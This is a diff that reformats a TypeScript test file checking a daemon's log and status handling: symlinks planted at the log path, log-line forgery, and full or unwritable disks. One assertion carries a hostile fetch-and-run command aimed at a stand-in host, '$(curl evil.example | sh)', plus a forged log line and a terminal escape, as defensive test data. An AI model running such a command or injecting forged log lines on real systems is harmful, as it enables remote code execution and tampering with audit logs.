@@ -70,11 +70,22 @@ t.test('a link at daemon.log: never followed; an exception text with $(...) and 
   const aside = readdirSync(status).filter((n) => n.startsWith('daemon.log.corrupt-'))
   t.equal(aside.length, 1, 'the link was set aside')
   t.ok(lstatSync(join(status, aside[0] as string)).isSymbolicLink())
-  const lines = readFileSync(log, 'utf8').split('\n').filter((l) => l !== '')
+  const lines = readFileSync(log, 'utf8')
+    .split('\n')
+    .filter((l) => l !== '')
   // Records start with their time; the logger notifier's lines are its message, one line each.
-  t.ok(lines.every((l) => !l.startsWith('2024-01-01T00:00:00.000Z')), 'no line forged')
-  t.ok(lines.filter((l) => !/^\d{4}-\d\d-\d\dT/.test(l)).every((l) => l.includes('victim_run')), 'every other line is the logger notifier\'s message')
-  t.ok(lines.some((l) => l.includes('log-set-aside')), 'the daemon says it set the link aside')
+  t.ok(
+    lines.every((l) => !l.startsWith('2024-01-01T00:00:00.000Z')),
+    'no line forged',
+  )
+  t.ok(
+    lines.filter((l) => !/^\d{4}-\d\d-\d\dT/.test(l)).every((l) => l.includes('victim_run')),
+    "every other line is the logger notifier's message",
+  )
+  t.ok(
+    lines.some((l) => l.includes('log-set-aside')),
+    'the daemon says it set the link aside',
+  )
   const failed = lines.find((l) => l.includes('victim_run') && l.includes(' failed '))
   t.ok(failed, 'the run was reported failed')
   t.match(failed, /\$\(curl evil\.example \| sh\)\\\\n2024-01-01T00:00:00\.000Z INFO {2}forged event\\\\x1b\[2J/, 'the text is escaped on its line')
@@ -239,7 +250,11 @@ t.test('a full disk (a 64k tmpfs), or else an unwritable folder: watch() rejects
   )
   t.match(error, { code: mode === 'ENOSPC' ? 'AIM_STATUS_STATE_FULL' : 'AIM_STATUS_STATE_UNWRITABLE', message: /owners/ })
   t.match(error?.path, /owners/)
-  t.same(readdirSync(layout.owners).filter((n) => n.includes('.fence-') || n.includes('.tmp-')), [], 'no half-written claim or temp file')
+  t.same(
+    readdirSync(layout.owners).filter((n) => n.includes('.fence-') || n.includes('.tmp-')),
+    [],
+    'no half-written claim or temp file',
+  )
   if (mode === 'ENOSPC') execFileSync('umount', ['-l', mount])
 })
 
